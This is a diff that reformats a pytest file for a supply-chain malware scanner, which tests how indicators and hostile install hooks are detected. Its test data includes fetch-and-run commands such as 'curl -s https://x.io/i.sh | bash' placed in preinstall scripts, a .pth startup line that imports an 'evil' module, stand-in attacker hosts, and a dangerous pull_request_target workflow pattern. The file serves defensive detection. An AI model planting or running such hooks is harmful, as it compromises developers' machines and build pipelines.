@@ -37,13 +37,15 @@ def rules(module: object, content: str, path: str) -> list[str]:
         ('host="sub.evil.io"', "host", "sub.evil.io"), ("connect('10.20.30.40', 80)", "address", "10.20.30.40"), ("10[.]20[.]30[.]40", "address", "10.20.30.40"),
         ("systemctl start pgsql-monitor.service", "literal", "pgsql-monitor.service"), ("cat ~/.local/share/kitty/cat.py", "literal", "/.local/share/kitty/cat.py"),
     ],
-)  # fmt: skip
+)
 def test_marks_are_extracted(text: str, kind: str, found: str) -> None:
     marks = [(m.kind, m.text) for m in look(indicators, "x = 1\n" + text, "a.py") if isinstance(m, Mark)]
     assert (kind, found) in marks
 
 
-@pytest.mark.parametrize("text", ["import os.path", 'open("model.safetensors")', "version 1.2.3", "1111.2.3.4", "300.1.2.3", "'torch.nn'[0]", "1.2.3.4.5"])
+@pytest.mark.parametrize(
+    "text", ["import os.path", 'open("model.safetensors")', "version 1.2.3", "1111.2.3.4", "300.1.2.3", "'torch.nn'[0]", "1.2.3.4.5"]
+)
 def test_what_is_no_address_is_no_mark(text: str) -> None:
     marks = [m for m in look(indicators, text, "a.py") if isinstance(m, Mark) and m.kind in ("address",)]
     assert marks == []
@@ -53,7 +55,11 @@ def test_lines_and_pieces() -> None:
     marks = [m for m in look(indicators, "\n\n" + "x" * 50 + "\nhttps://a.example.io\n", "a.py") if isinstance(m, Mark)]
     assert [m.evidence.line for m in marks] == [4]
     far = b"a" * (indicators.PIECE - 10) + b"pgsql-monitor.service" + b"b" * 100
-    assert any(m.text == "pgsql-monitor.service" for m in look(indicators, far.replace(b"b", b" ").replace(b"a", b" "), "a.txt") if isinstance(m, Mark))
+    assert any(
+        m.text == "pgsql-monitor.service"
+        for m in look(indicators, far.replace(b"b", b" ").replace(b"a", b" "), "a.txt")
+        if isinstance(m, Mark)
+    )
 
 
 def test_a_cap_that_was_hit_is_a_shortfall() -> None:
@@ -70,7 +76,7 @@ def test_a_cap_that_was_hit_is_a_shortfall() -> None:
         ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ", False),
         ("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('evil').add_shim(); ", True),
     ],
-)  # fmt: skip
+)
 def test_path_files(line: str, fires: bool) -> None:
     assert bool(rules(hooks, line + "\n", "x.pth")) == fires
 
@@ -85,7 +91,7 @@ def test_a_checkpoint_is_no_path_file() -> None:
         ("node setup_bun.js", True), ("curl -s https://x.io/i.sh | bash", True), ("node -e \"require('child_process').exec('x')\"", True), ("bun run index.js", True),
         ("node-gyp rebuild", False), ("husky install", False), ("prebuild-install || node-gyp rebuild", False), ("tsc", False), ("npm run build", False), ("./tools/setup", True),
     ],
-)  # fmt: skip
+)
 def test_install_scripts(command: str, fires: bool) -> None:
     text = '{"name": "x", "scripts": {"preinstall": ' + hooks.json.dumps(command) + "}}"
     found = look(hooks, text, "package.json")
@@ -96,13 +102,15 @@ def test_install_scripts(command: str, fires: bool) -> None:
 @pytest.mark.parametrize(
     ("command", "fires"),
     [("node -p \\\"require('node-addon-api').include\\\"", False), ("pkg-config --cflags glib-2.0", False), ("node -e \\\"require('nan')\\\"", False), ("node index.js", False), ("curl x | sh", True), ("node a.js > /dev/null && echo b", True)],
-)  # fmt: skip
+)
 def test_gyp_commands(command: str, fires: bool) -> None:
     assert bool(rules(hooks, '{"targets": [{"sources": ["<!(' + command + ')"]}]}', "binding.gyp")) == fires
 
 
 def test_workflows() -> None:
-    stranger = "name: ci\non: pull_request_target\nsteps:\n- uses: actions/checkout@v4\n  with: {ref: ${{ github.event.pull_request.head.sha }}}\n"
+    stranger = (
+        "name: ci\non: pull_request_target\nsteps:\n- uses: actions/checkout@v4\n  with: {ref: ${{ github.event.pull_request.head.sha }}}\n"
+    )
     assert rules(hooks, stranger, ".github/workflows/ci.yml") == ["WORKFLOW-DANGEROUS"]
     assert rules(hooks, stranger.replace("pull_request_target", "pull_request"), ".github/workflows/ci.yml") == []
     assert rules(hooks, "name: Run Copilot\non: push\n", ".github/workflows/codeql.yml") == ["WORKFLOW-DANGEROUS"]
@@ -129,8 +137,14 @@ def test_hosts_match_at_labels_alone() -> None:
 def test_every_indicator_is_of_use() -> None:
     """Each published indicator is matched somehow: as a digest, host, address, dependency, file, script or string, or by a rule of its class."""
     known = Known(waves.load(PACKS))
-    by_class = {"*.pth startup hook in wheel", "<name>-setup.pth + _index.js in wheel", "binding.gyp with command substitution <!( )", ".claude/settings.json SessionStart hook",
-                ".vscode/tasks.json runOn folderOpen", '.github/workflows/codeql.yml named "Run Copilot"'}
+    by_class = {
+        "*.pth startup hook in wheel",
+        "<name>-setup.pth + _index.js in wheel",
+        "binding.gyp with command substitution <!( )",
+        ".claude/settings.json SessionStart hook",
+        ".vscode/tasks.json runOn folderOpen",
+        '.github/workflows/codeql.yml named "Run Copilot"',
+    }
     for wave in waves.load(PACKS).values():
         for kind, text in wave.indicators:
             if text in by_class:
